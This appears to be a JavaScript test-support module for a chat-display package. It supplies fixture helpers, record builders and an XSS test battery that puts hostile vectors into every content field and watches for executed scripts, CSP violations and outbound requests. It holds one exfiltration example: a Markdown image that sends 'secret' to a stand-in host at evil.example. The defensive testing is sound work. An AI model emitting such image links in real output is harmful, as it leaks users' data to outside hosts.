// The test kit of the JavaScript tests: what more than one test file needs, in one place. Node
// built-ins only, so that it runs beside the packed package (scripts/test.sh copies tests/support
// with tests/js) as well as in the repository (tests/element, tests/page). The browsers' drivers
// are beside it: browser.mjs (launchBrowser), firefox.mjs and webkit.mjs.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";

/** A fixture file of tests/fixtures/, parsed: `fixtures("records")`. */
export const fixtures = (name) => JSON.parse(readFileSync(new URL(`../fixtures/${name}.json`, import.meta.url), "utf8"));

/**
 * Runs one fixture case and checks it: `run()` gives the case's `outputKey` (compared as JSON
 * text, so key order and null-versus-absent count too), or throws the ChatDisplayError the case
 * expects: a real Error with the case's code and path, a message naming the path and holding the
 * case's wording (`error.message`, upstream's words, or `message_contains`), recognized by
 * `recognizes` (the package's isChatDisplayError) when given. The case is not mutated. Returns
 * what `run` gave.
 */
export function checkCase(c, outputKey, run, { recognizes } = {}) {
  const before = JSON.stringify(c);
  let got;
  try {
    got = run();
  } catch (error) {
    assert.ok(c.error, `${c.name}: unexpected ${error.stack}`);
    assert.ok(error instanceof Error, c.name);
    assert.equal(error.name, "ChatDisplayError", c.name);
    if (recognizes) assert.ok(recognizes(error), c.name);
    assert.deepEqual({ code: error.code, path: error.path }, { code: c.error.code, path: c.error.path }, c.name);
    assert.ok(error.message.includes(error.path), `${c.name}: message names the path`);
    const wording = c.error.message ?? c.message_contains;
    if (wording) assert.ok(error.message.includes(wording), `${c.name}: ${error.message}`);
    return undefined;
  } finally {
    assert.equal(JSON.stringify(c), before, `${c.name}: inputs are not mutated`);
  }
  assert.ok(!c.error, `${c.name}: expected ${JSON.stringify(c.error)}, got ${JSON.stringify(got)}`);
  assert.equal(JSON.stringify(got), JSON.stringify(c[outputKey]), c.name);
  return got;
}

/** JSON text with object keys sorted, so that a comparison does not depend on key order. */
export const sorted = (v) => Array.isArray(v) ? `[${v.map(sorted).join(",")}]`
  : v !== null && typeof v === "object"
    ? `{${Object.keys(v).sort().map((k) => `${JSON.stringify(k)}:${sorted(v[k])}`).join(",")}}`
    : JSON.stringify(v);

/**
 * The record lines of tests/providers.rs `display`: `recordLines(records, round, flagless)`
 * (tests/support/record-lines.js, which the wasm boundary test evaluates too).
 */
export const recordLines = (0, eval)(readFileSync(new URL("./record-lines.js", import.meta.url), "utf8"));

/** A string as it is, anything else as JSON text. */
export const text = (v) => typeof v === "string" ? v : JSON.stringify(v);

/** A display-message record, for records the tests build. */
export const rec = (message_type, content_type, content, extra = {}) => ({
  conversation_id: "test", message_type, content_type, content, sequence: 0, status: "completed",
  tool_call_id: null, metadata: {}, ...extra,
});

/** A citation with `v` in every string field (the shape of api.md's Rich provider content). */
export const citationOf = (v) => ({
  type: v, cited_text: v, url: v, title: v, source: v, file_id: v, document_index: 0, document_title: v,
  start_index: 1, end_index: 2, unit: "page",
});

/** The XSS battery's conversation: every vector in every string field of every content type, as records and as messages. */
export function hostileConversation(vectors) {
  const out = [];
  vectors.forEach((v, i) => {
    out.push(
      rec("assistant", "text", { text: v }),
      rec("assistant", "thinking", { text: v }),
      rec("assistant", "image", { url: v, caption: v, alt_text: v }),
      rec("assistant", "image", { data: v, mime_type: "image/png", caption: v }),
      rec("assistant", "file_reference", { name: v, path: v }),
      rec("assistant", "structured_data", { format: "json", data: { [v]: [v, { k: v }] } }),
      rec("assistant", "structured_data", { format: "csv", data: `h,${v}\n${v},x` }),
      rec("assistant", "structured_data", { format: v, data: v }),
      rec("system", "notification", { text: v }),
      rec("system", "error", { text: v, path: v }),
      rec("assistant", "tool_call", { call_id: `x${i}`, name: v, arguments: { q: v, [v]: [v] }, display_text: v }, { tool_call_id: `x${i}`, status: "pending" }),
      rec("tool", "tool_result", { tool_call_id: `x${i}`, name: v, content: v, is_error: true }, { tool_call_id: `x${i}` }),
      rec("assistant", "todo_snapshot", { todos: [{ id: 1, content: v, status: "pending" }], summary: { pending: v } }),
      // Citations with the vector in every field (as url, as source only, as neither), a server
      // tool's structured result, an approval request.
      rec("assistant", "text", { text: v }, { metadata: { citations: [citationOf(v), { ...citationOf(v), url: null }, { ...citationOf(v), url: null, source: null, title: null, document_title: null }] } }),
      rec("user", "text", { text: v }, { metadata: { citations: [citationOf(v)] } }),
      rec("assistant", "thinking", { text: v }, { metadata: { citations: [citationOf(v)] } }),
      rec("assistant", "tool_call", { call_id: `a${i}`, name: v, arguments: { [v]: v } }, { tool_call_id: `a${i}`, status: "pending", metadata: { approval_request: true } }),
      rec("assistant", "tool_call", { call_id: `s${i}`, name: v, arguments: { query: v } }, { tool_call_id: `s${i}` }),
      rec("tool", "tool_result", { tool_call_id: `s${i}`, name: v, content: v, is_error: false }, { tool_call_id: `s${i}`, metadata: { result: { [v]: [v, { url: v, title: v }] } } }),
      { role: "user", content: v },
      { role: "assistant", content: [{ type: "thinking", content: v }, { type: "text", content: v }],
        tool_calls: [{ call_id: `m${i}`, name: v, arguments: { v }, display_text: v }] },
      { role: "tool", tool_results: [{ tool_call_id: `m${i}`, name: v, content: v }] },
      rec(v, v, { text: v }),
      // Code fences (with a language, without one, and a language that is itself the vector), math,
      // and a message whose text is split into blocks that each cite the vector.
      rec("assistant", "text", { text: `\`\`\`js\n${v}\n\`\`\`\n\n\`\`\`\n${v}\n\`\`\`\n\n\`\`\`${v.replace(/[\n`]/g, " ")}\n${v}\n\`\`\`` }),
      rec("assistant", "text", { text: `$$${v}$$ and \\(${v}\\) and \\[\\text{${v}}\\]` }),
      rec("assistant", "text", { text: `- ${v}` }, { sequence: 0, metadata: { citations: [citationOf(v)] } }),
      rec("assistant", "text", { text: ` ${v}\n` }, { sequence: 1, metadata: { citations: [citationOf(v), citationOf(`https://cite.example/${i}`)] } }),
    );
  });
  // The exfiltration route: a Markdown image in model text.
  out.push({ role: "assistant", content: "![x](http://evil.example/leak?d=secret)" });
  return out;
}

/**
 * The page's watch for what a successful attack would cause, as an init script
 * (`page.addInitScript(watchForAttacks)`): `window.__xss()` (what every vector calls) counted in
 * `__xssFired`, CSP violations listed in `__violations`.
 */
export function watchForAttacks() {
  window.__xssFired = 0;
  window.__xss = () => { window.__xssFired++; };
  window.__violations = [];
  document.addEventListener("securitypolicyviolation", (e) => window.__violations.push(`${e.violatedDirective}: ${e.blockedURI}`));
}

/**
 * Lists on `watch` what a page does that a test may not allow: console errors and uncaught
 * exceptions (\`watch.console\`), dialogs, dismissed (\`watch.dialogs\`), and requests that leave
 * 127.0.0.1 other than \`data:\` and \`blob:\` (\`watch.requests\`).
 */
export function watchPage(page, watch) {
  page.on("console", (m) => { if (m.type() === "error") watch.console.push(m.text()); });
  page.on("pageerror", (e) => watch.console.push(String(e)));
  page.on("dialog", async (d) => { watch.dialogs.push(d.message()); await d.dismiss(); });
  page.on("request", (r) => {
    const u = new URL(r.url());
    if (u.hostname !== "127.0.0.1" && u.protocol !== "data:" && u.protocol !== "blob:") watch.requests.push(r.url());
  });
}
